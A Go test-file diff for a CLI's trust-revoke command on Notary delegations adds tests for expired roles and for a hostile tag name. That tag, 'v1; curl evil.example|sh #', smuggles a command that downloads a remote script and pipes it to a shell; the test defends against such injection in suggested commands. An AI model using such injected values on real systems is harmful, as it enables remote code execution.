@@ -2,6 +2,7 @@ package cli_test
 
 import (
 	"encoding/json"
+	"errors"
 	"fmt"
 	"net/http"
 	"os"
@@ -165,13 +166,60 @@ func TestTrustRevoke(t *testing.T) {
 		t.Fatalf("exit %d, %v: %s%s", r.code, err, r.stdout, r.stderr)
 	}
 	got := fmt.Sprint(doc.Repositories)
-	want := fmt.Sprintf("[{[{v1 [targets/alice targets/releases] [{targets/bob %s}] false bob has to revoke it, too} {v2 [targets/alice targets/releases] [{targets %s} {targets/bob %s}] true the owner of the repository has to run notary remove %s v2 --publish; bob has to revoke it, too}]}]",
+	want := fmt.Sprintf("[{[{v1 [targets/alice targets/releases] [{targets/bob %s}] false bob has to revoke it, too} {v2 [targets/alice targets/releases] [{targets %s} {targets/bob %s}] true the owner of the repository has to take it out of targets: notary remove %s v2 --publish; bob has to revoke it, too}]}]",
 		w.digest, w.digest, w.digest, w.c.GUN())
 	if got != want || w.posts() != 1 {
 		t.Errorf("%s\nwant\n%s\n%d times published", got, want, w.posts())
 	}
 	if bob := w.revoke("--key", "bob.key", "--all", w.c.GUN()); bob.code != 1 || !strings.Contains(bob.stdout, "still signed "+w.c.GUN()+":v2") || !strings.Contains(bob.stdout, "revoked "+w.c.GUN()+":v1") {
 		t.Errorf("exit %d: %s%s", bob.code, bob.stdout, bob.stderr)
+	}
+}
+
+// What may still have a tag, and cannot be looked into, is told of: nothing is
+// called revoked then.
+func TestTrustRevokeVoid(t *testing.T) {
+	t.Parallel()
+	w := newDelegationWorld(t)
+	past := time.Now().Add(-time.Hour)
+	if err := errors.Join(w.c.Sign("v1", w.digest, "alice"), w.c.Expire(dcttest.Releases, past), w.c.Expire("targets/alice", past)); err != nil {
+		t.Fatal(err)
+	}
+	for _, args := range [][]string{{"--all", w.c.GUN()}, {w.c.GUN() + ":v1"}} {
+		text := w.revoke(args...)
+		if text.code != 1 || strings.Contains(text.stdout, "has signed no tag") || strings.Contains(text.stdout, "not signed") || strings.Contains(text.stdout, "revoked") ||
+			!strings.Contains(text.stdout, "targets/releases does not count, and was left as it is (expired: ") || !strings.Contains(text.stdout, "\n  next    have somebody who holds a key of targets/alice run notary witness ") {
+			t.Errorf("%v: exit %d: %s%s", args, text.code, text.stdout, text.stderr)
+		}
+		r := w.revoke(append(args, "--output", "json")...)
+		var doc struct {
+			Complete     bool
+			Repositories []struct {
+				Void []struct{ Role, Reason, Message string }
+				Hint string
+			}
+		}
+		if err := json.Unmarshal([]byte(r.stdout), &doc); err != nil || r.code != 1 || doc.Complete || len(doc.Repositories) != 1 {
+			t.Fatalf("%v: exit %d, %v: %s%s", args, r.code, err, r.stdout, r.stderr)
+		}
+		in := doc.Repositories[0]
+		if len(in.Void) != 2 || in.Void[1].Role != dcttest.Releases || in.Void[1].Reason != "expired" || in.Void[1].Message == "" || !strings.Contains(in.Hint, "notary witness") {
+			t.Errorf("%v: %s", args, r.stdout)
+		}
+	}
+}
+
+// What to do about a tag is no command where the tag is no tag: it is a stranger's.
+func TestTrustRevokeHostileTag(t *testing.T) {
+	t.Parallel()
+	const tag = "v1; curl evil.example|sh #"
+	w := newDelegationWorld(t)
+	if err := errors.Join(w.c.AddTarget(dcttest.Releases, tag, w.digest, 512), w.c.AddTarget("targets", tag, w.digest, 512)); err != nil {
+		t.Fatal(err)
+	}
+	r := w.revoke("--all", w.c.GUN())
+	if _, next, _ := strings.Cut(r.stdout, "  next "); r.code != 1 || !strings.Contains(next, "has to take it out of targets\n") || strings.Contains(next, "curl") {
+		t.Errorf("exit %d: %s%s", r.code, r.stdout, r.stderr)
 	}
 }
 
